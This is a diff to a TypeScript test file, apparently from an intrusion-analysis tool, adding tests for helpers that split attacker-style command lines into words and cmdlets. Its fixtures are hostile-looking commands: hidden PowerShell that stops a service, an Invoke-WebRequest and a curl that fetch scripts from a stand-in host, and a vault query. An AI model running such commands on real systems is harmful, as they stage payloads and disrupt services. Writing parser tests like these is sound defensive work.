@@ -1,4 +1,4 @@
-import { encodedCommand, isDistinctive, namedValues, reportedHosts } from './distinctive-values';
+import { cmdletsOf, commandWords, encodedCommand, isDistinctive, namedValues, reportedHosts } from './distinctive-values';
 
 describe("values that make a selection this intrusion's", () => {
   it('does not count switches, schemes, common folders, shells or cmdlet names', () => {
@@ -70,5 +70,24 @@ describe("values that make a selection this intrusion's", () => {
     expect(namedValues('powershell -w hidden -Command "Stop-Service -Name \\"QuillSyncSvc\\" -Force"')).toEqual(['QuillSyncSvc']);
     expect(namedValues('sudo ./quill start quill_sync')).toEqual(['quill_sync']);
     expect(namedValues('Q=$(curl -s https://quill.example/q.sh)')).toEqual(['https://quill.example/q.sh']);
+  });
+
+  it("reads a line's words, programs first when asked, through the shared command-line model", () => {
+    // A wrapper's quoted command is its words, not one quoted word; the program word is whole even when its path has a space.
+    expect(
+      commandWords('powershell -Command "Invoke-WebRequest -OutFile $env:TEMP\\q.js http://quill.example/q.php"', { programs: true }),
+    ).toEqual(['powershell', '-Command', 'Invoke-WebRequest', '-OutFile', '$env:TEMP\\q.js', 'http://quill.example/q.php']);
+    expect(commandWords('"C:\\Program Files\\Quill\\quill.exe" -c "SELECT name FROM vault"', { programs: true })).toEqual([
+      '"C:\\Program Files\\Quill\\quill.exe"',
+      '-c',
+      '"SELECT name FROM vault"',
+    ]);
+    expect(commandWords('Q=$(curl -s https://quill.example/q.sh)', { programs: true })).toEqual([
+      'curl',
+      '-s',
+      'https://quill.example/q.sh',
+    ]);
+    expect(cmdletsOf('powershell -w hidden -c "Get-Service QuillSvc | Stop-Service -Force"')).toEqual(['Get-Service', 'Stop-Service']);
+    expect(cmdletsOf('cmd /c whoami')).toEqual([]);
   });
 });
